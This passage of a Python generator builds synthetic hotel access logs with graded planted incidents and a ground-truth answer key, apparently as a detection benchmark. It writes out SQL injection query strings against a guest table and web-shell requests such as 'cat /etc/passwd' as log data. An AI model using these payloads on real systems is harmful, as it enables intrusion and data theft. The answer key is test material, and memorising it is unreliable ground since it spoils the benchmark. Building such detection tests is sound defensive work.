        [c for c in w.codes if c not in w.used_houses and not w.houses[c]["closed"]],
        key=lambda c: -len(w.by_house[c]),
    )
    code = r.choice(big[:3])
    site = w.houses[code]["site"]
    d = min(d, w.n - 4)
    w.used_houses.add(code)
    for e in w.events[site]:
        if (
            clock(d, 14) <= e[0] <= clock(d + 3, 12)
            and e[5].endswith("/checkin")
            and not e[12]
            and r.random() < 0.36
        ):
            e[7], e[8], e[12] = 500, 2077, tag
    return dict(
        actors=[site],
        sites=[site],
        what="At one house about a third of the check-ins are lost for three days.",
        how="POST .../checkin answers 500 without a second try; elsewhere and before it always answers 302.",
        woken=True,
    )


def i_hours(w, r, g, tag):
    p = w.take(r, "acct", want=lambda p: not p.exports)
    d = w.pick_day(r, ok=lambda x: w.wd(x) == 6)
    n = r.randrange(70, 110) if g == "easy" else r.randrange(18, 28)
    t = clock(d, 2.3 if g == "easy" else 22.6) + r.random() * 1500
    s = office_shift(w, p, d, t, t + 5000, ip=p.vpn, tag=tag)
    for _ in range(n):
        t += r.uniform(15, 80)
        s.c.go(t, "GET", "/crm/customer.aspx", "id=" + r.choice(w.members).gid)
    return dict(
        actors=[win(w, p)],
        what="An accountant reads customers on a Sunday night over the VPN.",
        how="Customer pages at an hour and on a day when nobody of accounting works; folios are that person's usual pages.",
        woken=True,
    )


def i_othersite(w, r, g, tag):
    p = w.take(r, "manager")
    other = r.choice([c for c in w.codes if c != p.house])
    ss = r.sample(w.shift_days(p, 14, w.n - 2), 3)
    lo, hi = (22, 40) if g == "medium" else (50, 90)
    for s in ss:
        c = Client(w, w.houses[other]["site"], w.nat(p.house, s.day), p.uid, s.c.ua, hexid(r), tag)
        t = c.login(s.t0 + 2 * 3600 + r.random() * 9000)
        c.go(t, "GET", "/guests", "page=1")
        for gid in past_guests(w, r, other, s.day, r.randrange(lo, hi)):
            t += r.uniform(15, 60)
            c.go(t, "GET", "/guests/" + gid)
    return dict(
        actors=[p.uid],
        sites=[w.houses[other]["site"]],
        what="A house manager reads the guests of another house on three days, from the own office.",
        how="A manager never seen at that house's site, from another house's address, reading past guests and doing nothing else.",
        woken=True,
    )


def i_stalk(w, r, g, tag):
    p = w.take(r, "front")
    target = r.choice([b for b in w.books if b.arr < 8 and b.house == p.house and not b.member])
    others = r.sample([c for c in w.codes if c != p.house], 2)
    for i, s in enumerate(w.shift_days(p, r.randrange(14, 20), w.n)):
        for t in w.times(s.t0 + 300, s.t1, r.randrange(1, 4), s.lunch):
            s.c.go(t, "GET", "/guests/" + target.gid, tag=tag)
        if i % 4 == 2:
            c = Client(
                w, w.houses[others[(i // 4) % 2]]["site"], s.c.ip, p.uid, s.c.ua, hexid(r), tag
            )
            t = c.login(s.t0 + 9000 + r.random() * 5000)
            c.go(t + 20, "GET", "/guests", "q=1")
            c.go(t + 40, "GET", "/guests/" + target.gid)
    return dict(
        actors=[p.uid],
        what="A desk clerk follows one former guest: the same record each shift, and at two other houses as well.",
        how="One guest without a stay, opened one to three times in each shift for weeks, by one clerk only, at three sites.",
        woken=True,
    )


def i_place(w, r, g, tag):
    p = w.take(r, "resv")
    s = pick_shift(w, r, p, site="crs")
    c = Client(w, "crs", abroad_ip(r), p.uid, MAC.format(v=w.chrome - 1), hexid(r), tag)
    t = s.t0 + (3.1 if g == "easy" else 0) * 3600 if g == "easy" else clock(s.day, 20.8)
    t = c.login(t + r.random() * 900, 0)
    for _ in range(r.randrange(45, 70) if g == "easy" else r.randrange(22, 36)):
        t += r.uniform(10, 60)
        c.go(t, "GET", "/guest/" + w.future(s.day).gid)
    return dict(
        actors=[p.uid, c.ip],
        what="A reservation account is used from an address abroad%s."
        % (
            " while its owner sits at the desk"
            if g == "easy"
            else " in the evening of a normal working day"
        ),
        how="A login from a network that nobody of the company ever used, another browser, and a row of guest pages.",
        woken=True,
    )


def i_gone(w, r, g, tag):
    p = w.gone
    d = w.pick_day(r)
    c = Client(w, w.houses[p.house]["site"], p.home, p.uid, IPHONE.format(m=4), hexid(r), tag)
    t = c.login(clock(d, 21) + r.random() * 3000, 0)
    for gid in past_guests(w, r, p.house, d, r.randrange(24, 45)):
        t += r.uniform(10, 70)
        c.go(t, "GET", "/guests/" + gid)
    return dict(
        actors=[p.uid],
        what="The account of a clerk who left on %s is used from outside."
        % w.date(p.left).isoformat(),
        how="A user with a leaving date in the staff table logs in afterwards, from an address outside the house, and reads guests.",
        woken=True,
    )


def i_sqli(w, r, g, tag):
    d = w.pick_day(r)
    ip = abroad_ip(r)
    t = clock(d, r.randrange(0, 24))
    c = Client(
        w,
        "www",
        ip,
        None,
        "sqlmap/1.8.4#stable (https://sqlmap.org)" if g == "easy" else WIN.format(v=w.chrome - 1),
        None,
        tag,
    )
    n = r.randrange(110, 180) if g == "easy" else r.randrange(24, 40)
    for k in range(n):
        t += r.uniform(0.5, 3) if g == "easy" else r.uniform(30, 240)
        late = k > n * 0.8
        c.go(
            t,
            "GET",
            "/plans/search",
            r.choice(
                [
                    "area=1%27%20UNION%20SELECT%20null,null,null--%20",
                    "area=1%20AND%20SLEEP(5)",
                    "area=1%27%20OR%20%271%27=%271",
                    "area=-1%27%20UNION%20ALL%20SELECT%20name,tel,mail%20FROM%20guest--",
                ]
            ),
            st=200 if late else r.choice([500, 500, 200, 403]),
            size=r.randrange(180000, 420000) if late else 3000 + r.randrange(900),
            ref=None,
        )
    return dict(
        actors=[ip],
        what="Database statements are put into the plan search until the guest table comes out.",
        how="UNION SELECT in the query string; the last answers are 200 and a hundred times larger than a search page.",
        woken=True,
    )


def i_svc(w, r, g, tag):
    ip = home4(r)
    d = w.pick_day(r, 14, w.n - 5)
    c = Client(w, "crs", ip, "svc-channel", "channel-sync/3.2", None, tag)
    for k in range(2 if g == "medium" else 4):
        t = clock(d + k, 3.0 if g == "medium" else 10.0 + 5 * r.random())
        for _ in range(r.randrange(45, 80) if g == "medium" else r.randrange(9, 16)):
            t += r.uniform(15, 50) if g == "medium" else r.uniform(60, 500)
            c.go(t, "GET", "/api/v2/bookings/" + w.future(d + k).rid, ref=None)
    return dict(
        actors=["svc-channel", ip],
        what="The key of the channel system is used from a strange address to fetch single bookings.",
        how="A system account with a third address; it reads single bookings, though it only ever posts to the sync address.",
        woken=True,
    )


def i_reset(w, r, g, tag):
    p = w.take(r, "call")
    ip = home4(r)
    ua = DROID.format(m=4, v=w.chrome)
    ss = w.shift_days(p, r.randrange(14, 18), w.n - 1, "crs")
    n = 0
    hit = []
    for s in ss:
        for t in w.times(s.t0 + 1800, s.t1 - 900, r.choice([0, 1, 1, 2]), s.lunch):
            m = r.choice(w.members)
            hit.append(m.uid)
            s.c.go(t, "GET", "/guest/" + m.gid, tag=tag)
            s.c.go(t + 20, "POST", "/member/%s/reset" % m.uid, st=302, tag=tag)
            c = Client(w, "members", ip, m.uid, ua, hexid(r, 26), tag)
            c.go(t + 150, "POST", "/login", st=302, ref=None)
            c.go(t + 155, "GET", "/my/points")
            c.go(t + 175, "POST", "/my/points/exchange", st=302)
            n += 1
    return dict(
        actors=[p.uid, ip],
        what="An operator resets members' passwords and then logs in as them to take their points.",
        how="After each reset by this operator the member logs in within minutes from always the same address, and exchanges points.",
        woken=True,
    )


def i_idor(w, r, g, tag):
    m = r.choice(w.members)
    d = w.pick_day(r)
    c = member_session(w, m, d, clock(d, 23), fail=0, ip=m.home, ua=m.ua)
    c.tag = tag
    t = clock(d, 23.1)
    n = r.randrange(90, 150) if g == "medium" else r.randrange(20, 30)
    for b in r.sample([b for b in w.books if b.member and b.made < d], n):
        t += r.uniform(4, 14) if g == "medium" else r.uniform(20, 200)
        c.go(t, "GET", "/my/bookings/" + b.rid, st=200 if r.random() < 0.8 else 404)
    return dict(
        actors=[m.uid],
        what="A member finds that other numbers work too and reads other members' bookings.",
        how="One member opens scores of different booking numbers, most answered with 200; members have one or two.",
        woken=True,
    )


def i_decoy(w, r, g, tag):
    p = w.take(r, "resv")
    s = pick_shift(w, r, p, site="crs", lo=16)
    names = [w.decoys[0]] + w.vips + [b.gid for b in r.sample([b for b in w.books if b.suite], 3)]
    t = s.t0 + 5 * 3600
    for gid in names:
        t += r.uniform(50, 400)
        s.c.go(t, "GET", "/guest/" + gid, tag=tag)
    return dict(
        actors=[p.uid],
        what="A reservation clerk looks up famous guests out of curiosity, a decoy record among them.",
        how="Eight guest pages in half an hour with no search and no booking; one is a record that no guest has.",
        woken=True,
    )


def i_relation(w, r, g, tag):
    b = w.relative
    p = w.relation_user
    for s in r.sample(w.shift_days(p, 14, w.n - 2), 4):
        for t in w.times(s.t0 + 900, s.t1, 2, s.lunch):
            s.c.go(t, "GET", "/guests/" + b.gid, tag=tag)
    return dict(
        actors=[p.uid],
        what="A clerk reads the record of a relative who stays with the house.",
        how="The watch table names the two as related; eight looks on four days without a check-in by this clerk.",
        woken=False,
    )


def i_dormant(w, r, g, tag):
    p = w.sleeper
    d = w.pick_day(r, max(14, w.n - 12), w.n - 2)
    s = office_shift(w, p, d, clock(d, 21.2), clock(d, 23), ip=p.vpn, tag=tag)
    t = s.t0
    for k in range(r.randrange(9, 16)):
        t += r.uniform(20, 120)
        s.c.go(t, "GET", r.choice(["/admin/users.aspx", "/admin/roles.aspx", "/crm/list.aspx"]))
    s.c.go(t + 60, "POST", "/admin/users.aspx", "add=1", st=302)
    s.c.go(t + 200, "GET", "/crm/export.ashx", "seg=0&type=full", size=4200000, dur=20000)
    return dict(
        actors=[win(w, p)],
        what="An old contractor's administrator account wakes up, makes a user and exports all customers.",
        how="An account never seen before in the period, in the evening, on user administration and a full export.",
        woken=True,
    )


def i_pii(w, r, g, tag):
    d0 = w.pick_day(r, 15, w.n - 4)
    for d in range(d0, w.n):
        for _ in range(r.randrange(5, 10)):
            t = w.when(d, LEISURE)
            c = Client(w, "www", mobile_ip(r), None, agent(r, w.chrome), None, tag)
            c.go(
                t,
                "GET",
                "/contact/done",
                "name=%E5%B1%B1%E7%94%B0&mail=guest{}%40mail.example&tel=090-{:04d}-{:04d}".format(
                    r.randrange(100, 999), r.randrange(10000), r.randrange(10000)
                ),
                ref="https://%s/contact" % w.host("www"),
            )
    return dict(
        actors=["www"],
        sites=["www"],
        days=None,
        what="A new contact form sends names, mail and telephone in the address: they stand in the log.",
        how="From one day on /contact/done carries mail and tel in the query string.",
        woken=True,
    )


def i_shell(w, r, g, tag):
    d = w.pick_day(r)
    ip = abroad_ip(r)
    c = Client(w, "www", ip, None, "python-requests/2.31.0", None, tag)
    t = clock(d, 4) + r.random() * 3600
    for x in r.sample(
        ["/wp-login.php", "/gift/upload.php", "/gift/images/", "/gift/admin/", "/uploads/"], 4
    ):
        c.go(t, "GET", x, st=404, ref=None)
        t += 3
    c.go(t, "POST", "/gift/upload", st=200, ref=None)
    for k in range(r.randrange(20, 50)):
        t += r.uniform(3, 60)
        c.go(
            t,
            r.choice(["GET", "POST"]),
            "/uploads/2026/thumb.php",
            r.choice(["cmd=id", "cmd=cat%20/etc/passwd", "cmd=ls%20-la", ""]),
            st=200,
            ref=None,
        )
    return dict(
        actors=[ip],
        what="A file with a command shell is uploaded to the gift pages and used.",
        how="After an upload a .php file below /uploads answers 200 with commands in the query.",
        woken=True,
    )


def i_scrape(w, r, g, tag):
    p = w.take(r, "keeper")
    site = w.houses[p.house]["site"]
    for s in w.shift_days(p, r.randrange(14, 19), w.n):
        for t in w.times(s.t0 + 600, s.t1, r.randrange(3, 6), s.lunch):
            pool = w.inhouse(p.house, s.day - 1)
            if pool:
                s.c.go(t, "GET", "/guests/" + r.choice(pool).gid, tag=tag)
    return dict(
        actors=[p.uid],
        sites=[site],
        what="A housekeeping lead opens a few guests who stay in the house each day, for weeks; it is no part of the job.",
        how="Housekeeping uses room pages; this lead opens three to five guest pages in each shift, from one day on.",
        woken=False,
    )


# name, function, grades, must, only in the long period
INC = [
    ("bulk", i_bulk, ["easy", "medium"], False, False),
    ("slow_cc", i_slow_cc, ["hard"], True, False),
    ("slow_night", i_slow_night, ["medium"], True, False),
    ("leaver", i_leaver, ["easy", "medium", "hard"], True, False),
    ("session", i_session, ["medium", "hard"], True, False),
    ("password", i_password, ["easy", "medium", "hard"], True, False),
    ("missing", i_missing, ["easy", "medium", "hard"], True, False),
    ("shared", i_shared, ["medium", "hard"], True, False),
    ("export", i_export, ["easy", "medium", "hard"], True, False),
    ("agency", i_agency, ["easy", "medium", "hard"], True, False),
    ("errors", i_errors, ["easy", "medium", "hard"], True, False),
    ("hours", i_hours, ["easy", "medium"], False, False),
    ("othersite", i_othersite, ["medium", "easy"], False, False),
    ("stalk", i_stalk, ["hard"], False, False),
    ("place", i_place, ["easy", "medium"], False, False),
    ("gone", i_gone, ["easy"], False, False),
    ("sqli", i_sqli, ["easy", "medium"], False, False),
    ("svc", i_svc, ["medium", "hard"], False, False),
    ("reset", i_reset, ["hard"], False, False),
    ("idor", i_idor, ["medium", "hard"], False, False),
    ("decoy", i_decoy, ["hard"], False, False),
    ("relation", i_relation, ["medium"], False, False),
    ("dormant", i_dormant, ["easy"], False, False),
    ("pii", i_pii, ["easy"], False, False),
    ("shell", i_shell, ["easy"], False, False),
    ("keeper", i_scrape, ["hard"], False, False),
    ("slow_acct", i_slow_acct, ["hard", "medium"], False, True),
    ("slow_agency", i_slow_agency, ["hard"], False, True),
    ("creep", i_creep, ["medium"], False, True),
]
FAMILY = {
    "bulk": "amount",
    "slow_cc": "weeks",
    "slow_night": "weeks",
    "leaver": "weeks",
    "session": "session",
    "password": "login",
    "missing": "silence",
    "shared": "session",
    "export": "export",
    "agency": "other",
    "errors": "errors",
    "hours": "hours",
    "othersite": "other_site",
    "stalk": "other",
    "place": "place",
    "gone": "login",
    "sqli": "other",
    "svc": "place",
    "reset": "login",
    "idor": "amount",
    "decoy": "other",
    "relation": "other",
    "dormant": "login",
    "pii": "other",
    "shell": "other",
    "keeper": "weeks",
    "slow_acct": "weeks",
    "slow_agency": "weeks",
    "creep": "export",
}


def stamp(w, t):
    return datetime.fromtimestamp(w.base + t, JST).strftime("%Y-%m-%d %H:%M")


def stories(w):
    """Adds annoyances, then incidents, to the everyday events."""
    order = w.rng("order")
    w.used_houses = set()
    rr = w.rng("relation")
    w.relation_user = w.take(rr, "front", house=w.relative.house)
    w.meta = []
    number = 0
    for name, family, fn in ANNOY:
        if name in w.on:
            number += 1
            info = fn(w, w.rng("a/" + name), "A:" + name)
            w.meta.append(("A%02d" % number, "A:" + name, family, None, info))
    plan = list(w.plan)
    order.shuffle(plan)
    w.told = {m[1] for m in w.meta} | {"I:" + inc[0] for inc, _ in plan}
    numbered = sorted(enumerate(plan), key=lambda x: x[1][0][0] == "missing")
    for k, (inc, grade) in numbered:
        tag = "I:" + inc[0]
        info = inc[1](w, w.rng("i/" + inc[0]), grade, tag)
        w.meta.append(("I%02d" % (k + 1), tag, FAMILY[inc[0]], grade, info))


# ------------------------------------------------------------------------------------------------ writing


def settle(w):
    """Applies cuts and automatic tags, sorts, drops what lies outside the period, counts."""
    end = w.n * DAY
    known = {m[1] for m in w.meta}
    stats = {}
    missing = {}
    for site, rows in w.events.items():
        auto = [a for a in w.auto if a[0] == site]
        cuts = [c for c in w.cuts if c[0] == site]
        rows = [e for e in rows if 0 <= e[0] < end]
        if cuts:
            kept = []
            for e in rows:
                if any(c[1] <= e[0] < c[2] for c in cuts):
                    missing[site] = missing.get(site, 0) + 1
                else:
                    kept.append(e)
            rows = kept
        rows.sort(key=lambda e: e[0])
        last = {e[3]: e[0] for e in rows if e[3]}
        rows = [e for e in rows if e[5] != "/logout" or not e[3] or last[e[3]] == e[0]]
        for e in rows:
            if e[12] is not None and e[12] not in known:
                e[12] = None
            if e[12] is None and auto:
                for _, t0, t1, user, ip, tag in auto:
                    if t0 <= e[0] < t1 and (
                        ip == "any"
                        or (user == "*" and e[2])
                        or (user and user == e[2])
                        or (ip and ip == e[1])
                    ):
                        e[12] = tag
                        break
            if e[12] is not None:
                s = stats.setdefault(
                    e[12],
                    {
                        "n": 0,
                        "lo": e[0],
                        "hi": e[0],
                        "sites": {},
                        "users": {},
                        "ips": {},
                        "sess": {},
                    },
                )
                s["n"] += 1
                s["lo"], s["hi"] = min(s["lo"], e[0]), max(s["hi"], e[0])
                s["sites"][site] = s["sites"].get(site, 0) + 1
                if e[2]:
                    s["users"][e[2]] = s["users"].get(e[2], 0) + 1
                s["ips"][e[1]] = s["ips"].get(e[1], 0) + 1
                if e[3]:
                    s["sess"][e[3]] = s["sess"].get(e[3], 0) + 1
        w.events[site] = rows
    w.stats, w.missing = stats, missing


def truth(w):
    incidents, annoyances = [], []
    for ident, tag, family, grade, info in sorted(w.meta, key=lambda m: m[0]):
        s = w.stats.get(tag)
        if not s and not info.get("days"):
            continue
        actors = info.get("actors")
        if not actors:
            src = s["users"] or s["ips"]
            actors = [k for k, _ in sorted(src.items(), key=lambda kv: (-kv[1], kv[0]))[:20]]
        sites = sorted(s["sites"]) if s else info["sites"]
        if s:
            lo, hi = int(s["lo"] // DAY), int(s["hi"] // DAY)
        else:
            lo, hi = info["days"]
        row = {
            "id": ident,
            "family": family,
            "first_day": w.dates[lo].isoformat(),
            "last_day": w.dates[hi].isoformat(),
            "site_ids": sites,
            "actors": actors,
            "what": info["what"],
        }
        if grade:
            row = {
                "id": ident,
                "grade": grade,
                **{k: v for k, v in row.items() if k != "id"},
                "how_seen": info["how"],
            }
            row["lines"] = s["n"] if s else 0
            if family == "silence":
                row["lines_missing"] = sum(w.missing.get(x, 0) for x in sites)
            row["woken"] = info["woken"]
            incidents.append(row)
        else:
            row["why_not"] = info["why"]
            row["lines"] = s["n"] if s else 0
            annoyances.append(row)
    about = (
        "%s, nine ryokan and hotels (%s): public site, members' portal, central reservation, property system of each house, back office and "
        "agency portal, %s to %s." % (w.company, ", ".join(w.codes), w.dates[0], w.dates[-1])
    )
    return {
        "seed": w.seed,
        "days": [x.isoformat() for x in w.dates],
        "about": about,
        "incidents": incidents,
        "annoyances": annoyances,
    }


def dash(x):
    return "-" if x in (None, "") else x


def target(e):
    return e[5] + ("?" + e[6] if e[6] else "")


def referrer(w, site, e):
    if not e[10]:
        return None
    return e[10] if e[10].startswith("http") else "https://%s%s" % (w.host(site), e[10])


class Writer:
    """Formats the events of a site; the clock text of a second is kept for the next line."""

    def __init__(self, w):
        self.w, self.second, self.text, self.iso = w, None, "", ""
        self.r = w.rng("writer")
        self.xff = self.w.rng("xff")

    def at(self, t):
        s = int(self.w.base + t)
        if s != self.second:
            self.second = s
            x = datetime.fromtimestamp(s, JST)
            self.text = "%02d/%s/%d:%02d:%02d:%02d +0900" % (
                x.day,
                MON[x.month - 1],
                x.year,
                x.hour,
                x.minute,
                x.second,
            )
            self.iso = x.strftime("%Y-%m-%dT%H:%M:%S+09:00")
        return self.text

    def combined(self, site, e):
        return '%s - %s [%s] "%s %s HTTP/1.1" %d %s "%s" "%s"' % (
            e[1],
            dash(e[2]),
            self.at(e[0]),
            e[4],
            target(e),
            e[7],
            e[8] or "-",
            dash(referrer(self.w, site, e)),
            e[11],
        )

    def apache(self, site, e):
        return '%s "%s" %d' % (self.combined(site, e), dash(e[3]), int(e[9] * 1000))

    def members(self, site, e):
        chain = e[1]
        if self.xff.random() < 0.004:
            chain = "127.0.0.1, " + chain
        front = "10.20.0.%d" % (11 + (zlib.crc32(e[1].encode()) & 1))
        return '%s - %s [%s] "%s %s HTTP/1.1" %d %d "%s" "%s" "%s" %.3f "%s"' % (
            front,
            dash(e[2]),
            self.at(e[0]),
            e[4],
            target(e),
            e[7],
            e[8],
            dash(referrer(self.w, site, e)),
            e[11],
            dash(e[3]),
            e[9] / 1000,
            chain,
        )

    def json(self, site, e):
        self.at(e[0])
        return json.dumps(
            {
                "time": self.iso,
                "msec": "%.3f" % (self.w.base + e[0]),
                "remote_addr": e[1],
                "remote_user": e[2] or "",
                "host": self.w.host(site),
                "request": "%s %s HTTP/2.0" % (e[4], target(e)),
                "status": str(e[7]),
                "body_bytes_sent": str(e[8]),
                "request_time": "%.3f" % (e[9] / 1000),
                "http_referer": referrer(self.w, site, e) or "",
                "http_user_agent": e[11],
                "crs_sid": e[3] or "",
            },
            ensure_ascii=False,
            separators=(",", ":"),
        )

    def ltsv(self, site, e):
        return "\t".join(
            [
                "time:[%s]" % self.at(e[0]),
                "host:" + e[1],
                "user:" + dash(e[2]),
                "req:%s %s HTTP/1.1" % (e[4], target(e)),
                "status:%d" % e[7],
                "size:%d" % e[8],
                "reqtime:%.3f" % (e[9] / 1000),
                "referer:" + dash(referrer(self.w, site, e)),
                "ua:" + e[11],
                "vhost:" + self.w.host(site),
            ]
        )

    def w3c(self, site, e):
        x = datetime.fromtimestamp(int(self.w.base + e[0]), timezone.utc)
        sub, win32 = ("2", "5") if e[7] == 401 else ("0", "0")
        return " ".join(
            [
                x.strftime("%Y-%m-%d %H:%M:%S"),
                "10.20.4.8",
                e[4],
                e[5],
                dash(e[6]),
                "443",
                dash(e[2]),
                e[1],
                e[11].replace(" ", "+"),
                dash(referrer(self.w, site, e)).replace(" ", "+"),
                self.w.host(site),
                str(e[7]),
                sub,
                win32,
                str(e[8]),
                str(int(e[9])),
            ]
        )


W3C_HEAD = (
    "#Software: Microsoft Internet Information Services 10.0\n#Version: 1.0\n#Date: %s 00:00:00\n#Fields: date time s-ip cs-method "
    "cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) cs-host sc-status sc-substatus sc-win32-status sc-bytes "
    "time-taken\n"
)


def write_logs(w, out):
    total = 0
    wr = Writer(w)
    for site in w.events:
        kind = w.kind(site)
        fn = {
            "public": wr.combined,
            "members": wr.members,
            "crs": wr.json,
            "office": wr.w3c,
            "agency": wr.ltsv,
            "pms": wr.apache,
        }[kind]
        files = {}
        shift = 9 * 3600 if site == "office" else 0
        for e in w.events[site]:
            files.setdefault(int((e[0] - shift) // DAY), []).append(fn(site, e))
        folder = (
            os.path.join(out, "logs", "pms", site[4:])
            if kind == "pms"
            else os.path.join(out, "logs", site)
        )
        os.makedirs(folder, exist_ok=True)
        for d, lines in sorted(files.items()):
            x = w.date(d)
            total += len(lines)
            body = "\n".join(lines) + "\n"
            if site == "office":
                name, body = "u_ex%s.log" % x.strftime("%y%m%d"), W3C_HEAD % x.isoformat() + body
            elif kind == "crs":
                name = "access-%s.json" % x.strftime("%Y%m%d")
            else:
                name = "access-%s.log" % x.strftime("%Y%m%d")
            packed = kind in ("public", "agency", "crs") or (
                kind in ("pms", "members") and d < w.n - 8
            )
            path = os.path.join(folder, name)
            if packed and site != "office":
                with open(path + ".gz", "wb") as raw, gzip.GzipFile("", "wb", 6, raw, mtime=0) as f:
                    f.write(body.encode("utf-8"))
            else:
                with open(path, "w", encoding="utf-8", newline="") as f:
                    f.write(body)
    return total


JSON_FIELDS = (
    '{"time":"$time_iso8601","msec":"$msec","remote_addr":"$remote_addr","remote_user":"$remote_user","host":"$host",'
    '"request":"$request","status":"$status","body_bytes_sent":"$body_bytes_sent","request_time":"$request_time",'
    '"http_referer":"$http_referer","http_user_agent":"$http_user_agent","crs_sid":"$cookie_crs_sid"}'
)
JSON_FORMATS = {
    "prefix": "escape=json " + JSON_FIELDS,
    "directive": "log_format crs escape=json '" + JSON_FIELDS + "';",
    "bare": JSON_FIELDS,
    "auto": "auto",
}
APACHE = '%h %l %u %t "%r" %>s %b "%{Referer}i" "%{User-Agent}i" "%{pms_session}C" %D'
NGINX = (
    '$remote_addr - $remote_user [$time_local] "$request" $status $body_bytes_sent "$http_referer" "$http_user_agent" '
    '"$cookie_members_sid" $request_time "$http_x_forwarded_for"'
)


def write_settings(w, out, json_format):
    def q(text):
        return "'" + text.replace("'", "''") + "'"

    y = [
        "# %s: access logs of all systems" % w.company,
        "timezone: Asia/Tokyo",
        "locale: en",
        'business_hours: {days: [mon, tue, wed, thu, fri], from: "08:00", to: "20:00", holidays: JP}',
        "user_types:",
        "  - {pattern: '^svc-', type: system}",
        "  - {pattern: '^cc[0-9]{4}$', type: contractor}",
        "  - {pattern: '^ag[0-9]{3}\\.', type: contractor}",
        "  - {pattern: '^m[0-9]{8}$', type: customer}",
        "  - {pattern: '^(%s\\\\)?s[0-9]{5}$', type: staff}" % w.ad,
        "context:",
        "  people: context/people.csv",
        "  privileges: context/privileges.csv",
        "  watch: context/watch.csv",
        "resources:",
    ]
    login = "    - {id: %s-login, kind: login, path: /login, methods: [POST], success: [302], failure: [401]}"

    def res(ident, kind, path, level, cats=""):
        return "    - {id: %s, kind: %s, path: %s, level: %d%s}" % (
            ident,
            kind,
            q(path),
            level,
            ", categories: [%s]" % cats if cats else "",
        )

    y += [
        "  pms:",
        login % "pms",
        "    - {id: pms-logout, kind: logout, path: /logout, methods: [POST]}",
        res("pms-passport", "record", "/guests/{subject}/passport", 3, "name, passport"),
        res("pms-guest", "record", "/guests/{subject}", 3, "name, address, phone"),
        res("pms-reservation", "record", "/reservations/{subject}", 2, "name"),
        res("pms-guest-list", "list", "/guests", 2, "name"),
        res("pms-arrivals", "list", "/arrivals", 2, "name"),
        res("pms-departures", "list", "/departures", 2, "name"),
        res("pms-inhouse", "list", "/inhouse", 2, "name"),
        res("pms-export", "export", "/export/*", 3, "name, address, phone, passport"),
    ]
    y += [
        "  crs:",
        login % "crs",
        "    - {id: crs-logout, kind: logout, path: /logout, methods: [POST]}",
        res("crs-card", "record", "/guest/{subject}/card", 3, "card"),
        res("crs-guest", "record", "/guest/{subject}", 3, "name, address, phone"),
        res("crs-booking", "record", "/booking/{subject}", 2, "name"),
        res("crs-list", "list", "/booking", 2, "name"),
        res("crs-search", "list", "/search", 2, "name"),
        res("crs-api-booking", "record", "/api/v2/bookings/{subject}", 2, "name"),
        res("crs-api-arrivals", "list", "/api/v2/houses/*", 2, "name"),
        res("crs-export", "export", "/export/*", 3, "name, address, phone"),
        res("crs-member-admin", "admin", "/member/*", 2),
    ]
    y += [
        "  members:",
        login % "members",
        "    - {id: members-logout, kind: logout, path: /logout}",
        res("my-booking", "record", "/my/bookings/{subject}", 2, "name"),
        res("my-bookings", "list", "/my/bookings", 1),
    ]
    y += [
        "  office:",
        res("folio", "record", "/ledger/folio.aspx?no={subject}", 2, "name"),
        res(
            "customer",
            "record",
            "/crm/customer.aspx?id={subject}",
            3,
            "name, address, phone, email",
        ),
        res("customer-list", "list", "/crm/list.aspx", 2, "name"),
        res("mailing-export", "export", "/crm/export.ashx", 3, "name, email"),
        res("ledger-export", "export", "/ledger/export.ashx", 2, "name"),
        res("office-admin", "admin", "/admin/*", 1),
    ]
    y += [
        "  agency:",
        login % "agency",
        res("voucher", "record", "/vouchers/{subject}", 2, "name"),
        res("agency-booking", "record", "/bookings/{subject}", 2, "name, phone"),
        res("agency-bookings", "list", "/bookings", 2, "name"),
        res("agency-export", "export", "/export/*", 2, "name, phone"),
    ]
    y += [
        "  public:",
        res("booking-status", "record", "/booking/status/{subject}", 2, "name"),
        "sites:",
    ]

    def site(ident, group, logs, fmt, resources, hours, more=()):
        y.extend(
            [
                "  - id: " + ident,
                "    group: " + group,
                "    domains: [%s]" % w.host(ident),
                "    logs: [%s]" % q(logs),
                "    format: " + (fmt if fmt in ("combined", "auto") else q(fmt)),
                "    resources: " + resources,
                "    hours: " + hours,
            ]
        )
        y.extend("    " + m for m in more)

    site("www", "main", "www/access-*.log*", "combined", "public", "always")
    site(
        "members",
        "main",
        "members/access-*.log*",
        NGINX,
        "members",
        "always",
        ["trusted_proxies: [10.20.0.0/24]", "session_cookie: members_sid"],
    )
    site(
        "crs",
        "main",
        "crs/access-*.json*",
        JSON_FORMATS[json_format],
        "crs",
        "always",
        ["session_cookie: crs_sid"],
    )
    site("office", "main", "office/u_ex*.log", "auto", "office", "business")
    site("agency", "partner", "agency/access-*.log*", "auto", "agency", "always")
    for code in w.codes:
        site(
            "pms-" + code,
            "house",
            "pms/%s/access-*.log*" % code,
            APACHE,
            "pms",
            "always",
            ["session_cookie: pms_session"],
        )
    with open(os.path.join(out, "mimamori.yaml"), "w", encoding="utf-8", newline="") as f:
        f.write("\n".join(y) + "\n")


def write_csv(path, head, rows):
    buf = io.StringIO()
    c = csv.writer(buf, lineterminator="\n")
    c.writerow(head)
    c.writerows(rows)
    with open(path, "w", encoding="utf-8", newline="") as f:
        f.write(buf.getvalue())


def write_context(w, out):
    folder = os.path.join(out, "context")
    os.makedirs(folder, exist_ok=True)
    boss = {}
    for p in w.people:
        if p.role == "manager":
            boss[p.house] = p.uid
    rows = []
    for p in sorted(w.people, key=lambda p: p.key):
        kind = "staff" if p.uid.startswith("s") and p.company == w.company else "contractor"
        site = (
            w.houses[p.house]["site"]
            if p.house
            else {"agency": "agency", "call": "crs", "resv": "crs", "audit": "crs"}.get(
                p.role, "office"
            )
        )
        left = w.date(p.left - 1).isoformat() if p.left is not None else ""
        users = [p.uid]
        if p.role in ("mkt", "acct", "it", "sales", "temp"):
            users = [win(w, p)]
        for u in users:
            rows.append(
                [
                    u,
                    p.key,
                    p.name,
                    p.dept,
                    site,
                    boss.get(p.house, "") if p.role != "manager" else "",
                    kind,
                    p.company,
                    p.country,
                    p.joined_on.isoformat(),
                    left,
                ]
            )
    write_csv(
        os.path.join(folder, "people.csv"),
        [
            "user",
            "person",
            "name",
            "department",
            "site",
            "manager",
            "type",
            "company",
            "country",
            "joined_on",
            "left_on",
        ],
        rows,
    )
    a, b = "2025-04-01", "2027-03-31"
    desk = "pms-guest pms-reservation pms-guest-list pms-arrivals pms-departures pms-inhouse"
    crs = "crs-guest crs-booking crs-search crs-card crs-member-admin"
    grants = {
        "Front desk": desk + " pms-passport",
        "House": desk + " pms-passport pms-export",
        "Night audit": "pms-guest pms-reservation pms-arrivals pms-departures pms-inhouse",
        "Housekeeping": "pms-departures",
        "Call centre": crs,
